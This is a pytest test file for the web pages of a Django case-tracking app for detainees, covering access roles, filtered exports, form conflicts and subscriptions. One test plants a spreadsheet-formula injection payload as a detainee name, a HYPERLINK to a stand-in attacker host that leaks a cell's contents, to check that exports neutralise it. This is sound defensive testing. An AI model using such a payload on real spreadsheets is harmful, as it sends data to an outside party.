"""The browser pages, server side: roles enforced by the server, filters in the URL, exports of
exactly the filtered rows, the status form's refusals in place, and constant query counts."""

import csv
import io
import zipfile
from collections import defaultdict

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from cases.demo.seed import demo_seed
from cases.models import Detainee
from tests.factories import PASSWORD

pytestmark = pytest.mark.django_db


@pytest.fixture
def scenario():
    demo_seed(detainees=230, seed=1)


def signed_in(client, user):
    client.login(username=user.username, password=PASSWORD)
    return client


def ru_il_refs() -> set[str]:
    both = Detainee.objects.filter(citizenships__country="RU").filter(citizenships__country="IL")
    return set(both.values_list("case_ref", flat=True))


def test_every_page_needs_a_login(client):
    for path in (
        "/",
        "/detainees/",
        "/detainees/new/",
        "/channels/",
        "/notifications/",
        "/subscriptions/",
        "/detainees/export.csv",
    ):
        response = client.get(path)
        assert response.status_code == 302 and response["Location"].startswith("/accounts/login/"), path


def test_list_filters_come_from_the_url(client, analyst, scenario):
    page = signed_in(client, analyst).get("/detainees/", {"citizenship_all": "RU,IL", "page_size": "100"})
    assert page.status_code == 200
    assert {row["case_ref"] for row in page.context["rows"]} == ru_il_refs()
    assert len(ru_il_refs()) == 8


def test_invalid_filters_are_shown_not_ignored(client, analyst, scenario):
    page = signed_in(client, analyst).get("/detainees/", {"citizenship": "XX", "status": "kidnapped"})
    assert page.status_code == 400
    assert page.context["rows"] == []
    assert "Select a valid choice" in page.content.decode()


def test_list_query_count_does_not_grow_with_the_page(client, analyst, scenario):
    signed_in(client, analyst)
    client.get("/detainees/?page_size=5")
    with CaptureQueriesContext(connection) as small:
        assert len(client.get("/detainees/?page_size=5").context["rows"]) == 5
    with CaptureQueriesContext(connection) as large:
        assert len(client.get("/detainees/?page_size=200").context["rows"]) == 200
    assert len(small) == len(large)


def test_csv_export_is_exactly_the_filtered_rows(client, analyst, scenario):
    response = signed_in(client, analyst).get("/detainees/export.csv", {"citizenship_all": "RU,IL"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["case_ref"] for r in rows} == ru_il_refs()
    assert all(r["citizenships"] == "IL RU" for r in rows)
    assert "notes" not in rows[0]


def test_xlsx_export_is_exactly_the_filtered_rows(client, analyst, scenario):
    response = signed_in(client, analyst).get("/detainees/export.xlsx", {"status": "released", "dual": "true"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    refs = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    expected = Detainee.objects.filter(status="released", citizenship_count__gte=2).values_list("case_ref", flat=True)
    assert refs == set(expected) and refs


def test_the_xlsx_export_writes_a_formula_as_text(client, analyst, officer, scenario):
    """Probing found a full_name of =HYPERLINK(...) written as a live formula (an <f> cell); names
    arrive on lists other governments hand over. Every cell is a string."""
    from cases.services.detainees import detainee_create

    planted = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
    detainee_create(full_name=planted, actor=officer, citizenships=["FR"])
    response = signed_in(client, analyst).get("/detainees/export.xlsx", {"citizenship": "FR"})
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert planted in names


def test_exports_mark_what_must_not_be_disclosed_and_what_is_uncertain(client, analyst, scenario):
    # The demo holds a confirmed death whose family is not yet informed, a death awaiting a second
    # officer and a case with claims in conflict.
    withheld = Detainee.objects.get(withholding=True)
    awaiting = Detainee.objects.get(awaiting_confirmation=True)
    disputed = Detainee.objects.get(in_conflict=True)
    signed_in(client, analyst)
    text = b"".join(client.get("/detainees/export.csv").streaming_content).decode("utf-8-sig")
    rows = {r["case_ref"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows[withheld.case_ref]["status"] == "deceased"
    assert rows[withheld.case_ref]["do_not_disclose"] == "Family not yet informed — do not disclose"
    assert rows[awaiting.case_ref]["awaiting_confirmation"] == "yes" and rows[awaiting.case_ref]["status"] == "held"
    assert rows[disputed.case_ref]["in_conflict"] == "yes"
    marked = {ref for ref, r in rows.items() if r["do_not_disclose"]}
    assert marked == {withheld.case_ref}
    assert any(r["last_proof_of_life"] for r in rows.values())

    sheet = load_workbook(io.BytesIO(client.get("/detainees/export.xlsx").content)).active
    header, *cells = list(sheet.iter_rows(values_only=True))
    by_ref = {row[0]: dict(zip(header, row, strict=True)) for row in cells}
    assert by_ref[withheld.case_ref]["do_not_disclose"] == "Family not yet informed — do not disclose"
    assert not by_ref[awaiting.case_ref]["do_not_disclose"]


def test_csv_neutralises_formulas(client, officer, analyst):
    from cases.services.detainees import detainee_create

    detainee_create(full_name="=HYPERLINK(1)", actor=officer)
    text = b"".join(signed_in(client, analyst).get("/detainees/export.csv").streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK(1)" in text


@pytest.mark.parametrize("path", ["/detainees/new/", "/channels/new/"])
def test_analysts_cannot_reach_create_pages(client, analyst, path):
    assert signed_in(client, analyst).get(path).status_code == 403


def test_analysts_cannot_edit_or_record_and_see_no_notes(client, analyst, scenario):
    detainee = Detainee.objects.exclude(notes="").first()
    signed_in(client, analyst)
    assert client.get(f"/detainees/{detainee.pk}/edit/").status_code == 403
    response = client.post(f"/detainees/{detainee.pk}/status/", {"change-to_status": "released", "change-source": "x"})
    assert response.status_code == 403
    page = client.get(f"/detainees/{detainee.pk}/").content.decode()
    assert "Record a status change" not in page and "Internal notes" not in page and detainee.notes not in page
    assert f"/detainees/{detainee.pk}/edit/" not in page


def test_status_form_offers_only_allowed_statuses_and_shows_refusals(client, officer, scenario):
    detainee = Detainee.objects.filter(status="held").first()
    signed_in(client, officer)
    form = client.get(f"/detainees/{detainee.pk}/").context["status_form"]
    assert [v for v, _ in form.fields["to_status"].choices] == [
        "release_pending",
        "released",
        "rescued",
        "escaped",
        "deceased",
    ]
    base = {"change-from_status": "held", "change-confidence": "reported"}
    missing_source = client.post(f"/detainees/{detainee.pk}/status/", base | {"change-to_status": "released"})
    assert missing_source.status_code == 400
    assert missing_source.context["status_form"].errors["source"]
    stale = client.post(
        f"/detainees/{detainee.pk}/status/",
        base | {"change-to_status": "released", "change-source": "ICRC", "change-from_status": "missing"},
    )
    assert stale.status_code == 409
    assert "someone recorded a change meanwhile" in stale.content.decode()
    ok = client.post(
        f"/detainees/{detainee.pk}/status/", base | {"change-to_status": "released", "change-source": "ICRC"}
    )
    assert ok.status_code == 302
    detainee.refresh_from_db()
    assert detainee.status == "released"


def test_edit_conflict_keeps_both_versions(client, officer, scenario):
    detainee = Detainee.objects.first()
    signed_in(client, officer)
    form = client.get(f"/detainees/{detainee.pk}/edit/").context["form"]
    data = {k: ("" if v is None else v) for k, v in form.initial.items()}
    data |= {
        "variants-TOTAL_FORMS": "0",
        "variants-INITIAL_FORMS": "0",
        "variants-MIN_NUM_FORMS": "0",
        "variants-MAX_NUM_FORMS": "1000",
        "abducted_at": "",
        "date_of_birth": "",
    }
    from cases.services.detainees import detainee_update

    detainee_update(detainee_id=detainee.pk, actor=officer, abduction_place="Moshav Even Sapir")
    response = client.post(f"/detainees/{detainee.pk}/edit/", data | {"abduction_place": "Kfar Rimon"})
    assert response.status_code == 409
    assert "Someone else saved this record" in response.content.decode()
    detainee.refresh_from_db()
    assert detainee.abduction_place == "Moshav Even Sapir"


def test_dashboard_links_open_filtered_lists(client, analyst, scenario):
    page = signed_in(client, analyst).get("/")
    assert page.status_code == 200
    links = {bar.link for _, _, _, bars in page.context["charts"] for bar in bars}
    assert "/detainees/?citizenship=RU" in links and "/detainees/?status=released" in links
    for link in links:
        assert signed_in(client, analyst).get(link).status_code == 200, link


def test_no_page_points_outside(client, admin_user, scenario):
    detainee = Detainee.objects.first()
    signed_in(client, admin_user)
    for path in ("/", "/detainees/", f"/detainees/{detainee.pk}/", "/channels/", "/subscriptions/", "/notifications/"):
        html = client.get(path).content.decode()
        assert "http://" not in html and "https://" not in html, path


def test_an_unknown_parameter_shows_nothing_rather_than_everyone(client, analyst, scenario):
    page = signed_in(client, analyst).get("/detainees/", {"citizenships": "RU"})
    assert page.status_code == 400 and page.context["rows"] == []
    assert "Unknown query parameter" in page.content.decode() and "citizenships" in page.content.decode()
    assert client.get("/detainees/export.csv", {"citizenships": "RU"}).status_code == 400


def test_officer_links_and_unlinks_a_detainee_on_the_channel_page(client, officer, analyst, scenario):
    from alerts.models import Event
    from cases.models import ChannelMembership, NegotiationChannel

    channel = NegotiationChannel.objects.get(mediator_country="EG")
    detainee = Detainee.objects.exclude(channel_memberships__channel=channel).first()
    events = Event.objects.filter(channel=channel).count()
    signed_in(client, officer)
    response = client.post(
        f"/channels/{channel.pk}/members/", {"case_ref": detainee.case_ref.lower(), "role": "discussed", "source": "x"}
    )
    assert response.status_code == 302
    link = ChannelMembership.objects.get(channel=channel, detainee=detainee)
    assert link.role == "discussed" and Event.objects.filter(channel=channel).count() == events + 1
    again = client.post(f"/channels/{channel.pk}/members/", {"case_ref": detainee.case_ref, "role": "discussed"})
    assert again.status_code == 400 and "already linked" in again.content.decode()
    unknown = client.post(f"/channels/{channel.pk}/members/", {"case_ref": "HC-999999", "role": "discussed"})
    assert unknown.status_code == 400 and "No case HC-999999" in unknown.content.decode()
    assert client.post(f"/channels/{channel.pk}/members/{link.pk}/delete/").status_code == 302
    assert not ChannelMembership.objects.filter(pk=link.pk).exists()

    signed_in(client, analyst)
    forbidden = client.post(f"/channels/{channel.pk}/members/", {"case_ref": detainee.case_ref, "role": "discussed"})
    assert forbidden.status_code == 403


@pytest.mark.parametrize(
    ("kind", "typed", "stored"),
    [("nationality", "Russia", "RU"), ("nationality", "ru", "RU"), ("status", "Release pending", "release_pending")],
)
def test_subscriptions_accept_what_people_type(client, analyst, kind, typed, stored):
    analyst.email = "analyst@cell.example"
    analyst.save()
    response = signed_in(client, analyst).post(
        "/subscriptions/", {"kind": kind, "value": typed, "by_email": "on", "in_app": "on"}
    )
    assert response.status_code == 302
    assert analyst.subscriptions.get().value == stored
    duplicate = client.post("/subscriptions/", {"kind": kind, "value": typed, "in_app": "on"})
    assert duplicate.status_code == 400 and "already subscribed" in duplicate.content.decode()


def test_a_channel_subscription_by_part_of_its_name(client, analyst, scenario):
    from cases.models import NegotiationChannel

    response = signed_in(client, analyst).post("/subscriptions/", {"kind": "channel", "value": "qatar", "in_app": "on"})
    assert response.status_code == 302
    assert analyst.subscriptions.get().value == str(NegotiationChannel.objects.get(mediator_country="QA").pk)


def test_admins_revoke_tokens_in_the_admin(client, admin_user, officer):
    from partners.models import ApiToken
    from partners.services.tokens import token_issue

    token_row, token = token_issue(user=officer)
    api = client.get("/api/v1/detainees/", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert api.status_code == 200
    signed_in(client, admin_user)
    listing = client.get("/admin/partners/apitoken/")
    assert listing.status_code == 200 and token_row.prefix in listing.content.decode()
    assert token not in listing.content.decode()
    client.post("/admin/partners/apitoken/", {"action": "revoke", "_selected_action": [token_row.pk]})
    assert ApiToken.objects.get().revoked_at is not None
    client.logout()
    assert client.get("/api/v1/detainees/", HTTP_AUTHORIZATION=f"Bearer {token}").status_code == 401


def test_healthz_answers_head(client):
    assert client.head("/healthz").status_code == 200


def test_a_channel_log_entry_cannot_be_dated_in_the_future(client, officer, scenario):
    from cases.models import ChannelEvent, NegotiationChannel

    channel = NegotiationChannel.objects.first()
    before = ChannelEvent.objects.count()
    response = signed_in(client, officer).post(
        f"/channels/{channel.pk}/log/",
        {"kind": "meeting", "occurred_at": "2099-12-31T23:59", "summary": "Planned", "source": "Press report"},
    )
    assert response.status_code == 400 and "cannot be dated in the future" in response.content.decode()
    assert ChannelEvent.objects.count() == before


def test_the_subscriptions_page_costs_the_same_for_many_subscriptions(client, analyst, scenario):
    from alerts.models import Subscription
    from cases.models import NegotiationChannel

    signed_in(client, analyst)

    def subscribe(detainees):
        for d in detainees:
            Subscription.objects.get_or_create(user=analyst, kind="detainee", value=str(d.pk))
        for c in NegotiationChannel.objects.all():
            Subscription.objects.get_or_create(user=analyst, kind="channel", value=str(c.pk))

    subscribe(Detainee.objects.all()[:2])
    client.get("/subscriptions/")
    with CaptureQueriesContext(connection) as few:
        client.get("/subscriptions/")
    subscribe(Detainee.objects.all()[:20])
    with CaptureQueriesContext(connection) as many:
        page = client.get("/subscriptions/")
    assert len(many) == len(few)
    assert len(page.context["subscriptions"]) == 24
    shown = {description for _, description in page.context["subscriptions"]}
    # Described by case reference and name or by channel name, never by a bare id.
    assert not shown & {s.value for s in Subscription.objects.filter(user=analyst)}
    assert any(d.startswith("HC-") for d in shown) and "Doha talks (Qatar)" in shown


def test_a_single_valued_filter_given_twice_is_refused_as_in_the_api(client, analyst, scenario):
    page = signed_in(client, analyst).get("/detainees/?dual=true&dual=false")
    assert page.status_code == 400 and page.context["rows"] == []
    assert "Give this parameter once" in page.content.decode()
    assert client.get("/detainees/export.csv?dual=true&dual=false").status_code == 400


def test_officers_record_who_was_held_together_from_the_case_page(client, officer, analyst):
    from cases.models import CaptivityGroup
    from cases.services.detainees import detainee_create

    noa, eli, dana = (detainee_create(full_name=name, actor=officer) for name in ("Noa Adler", "Eli Ben", "Dana Oz"))
    page = f"/detainees/{noa.pk}/"
    signed_in(client, officer)
    group = {"group-name": "Tunnel, southern district", "group-source": "Debriefing of Dana Oz"}
    response = client.post(
        f"{page}groups/", {**group, "group-confidence": "reported", "group-others": f"{eli.case_ref}, HC-999999"}
    )
    assert response.status_code == 302 and response["Location"].endswith("#held-with")
    assert "No case HC-999999" in client.get(page).content.decode()
    assert not CaptivityGroup.objects.exists()  # nothing half-written

    client.post(f"{page}groups/", {**group, "group-confidence": "reported", "group-others": eli.case_ref.lower()})
    tunnel = CaptivityGroup.objects.get()
    assert set(tunnel.detainees.all()) == {noa, eli}
    text = client.get(f"/detainees/{eli.pk}/").content.decode()
    assert "Tunnel, southern district" in text and noa.case_ref in text

    client.post(f"/detainees/{dana.pk}/groups/join/", {"join-group": str(tunnel.pk)})
    assert set(tunnel.detainees.all()) == {noa, eli, dana}
    client.post(f"/detainees/{eli.pk}/groups/{tunnel.pk}/leave/")
    assert set(tunnel.detainees.all()) == {noa, dana}
    eli.refresh_from_db()
    assert eli.version == 3  # joined and left: two edits of Eli's record, each an event

    signed_in(client, analyst)
    assert client.post(f"/detainees/{eli.pk}/groups/join/", {"join-group": str(tunnel.pk)}).status_code == 403
    assert client.post(f"/detainees/{noa.pk}/groups/{tunnel.pk}/leave/").status_code == 403
    assert "Record a new group" not in client.get(page).content.decode()


def test_the_case_history_shows_proposals_claims_and_groups_with_who_decided(client, officer, make_user, analyst):
    from cases.services.claims import claim_record, claim_reject
    from cases.services.detainees import detainee_create
    from cases.services.groups import group_create
    from cases.services.status_changes import status_change_record, status_change_reject

    second = make_user("officer", "second")
    noa = detainee_create(full_name="Noa Adler", actor=officer)
    status_change_record(detainee_id=noa.pk, to_status="held", source="Video", actor=officer)
    proposal = status_change_record(detainee_id=noa.pk, to_status="deceased", source="Captors", actor=officer)
    status_change_reject(detainee_id=noa.pk, proposal_id=proposal.pk, actor=second, reason="Seen alive since")
    claim = claim_record(detainee_id=noa.pk, asserted_status="released", source="Press report", actor=officer)
    claim_reject(detainee_id=noa.pk, claim_id=claim.pk, actor=second, reason="Denied by the ICRC")
    group_create(actor=officer, name="Tunnel", source="Debriefing", members=[noa.pk])

    history = signed_in(client, analyst).get(f"/detainees/{noa.pk}/").context["history"]
    by_label = defaultdict(list)
    for label, entry in history:
        by_label[label].append(entry)
    decided = by_label["Proposed change to deceased"]
    assert [e.kind for e in decided] == ["changed", "created"]
    assert decided[0].actor == "second"
    assert {c.field: c.new for c in decided[0].changes}["decided_by"] == "second"  # a name, not an id
    assert {c.field: c.new for c in decided[0].changes}["rejection_reason"] == "Seen alive since"
    ruled = by_label["Claim “released” (Press report)"]
    assert [e.kind for e in ruled] == ["changed", "created"] and ruled[0].actor == "second"
    assert [e.kind for e in by_label["Held together: Tunnel"]] == ["created"]
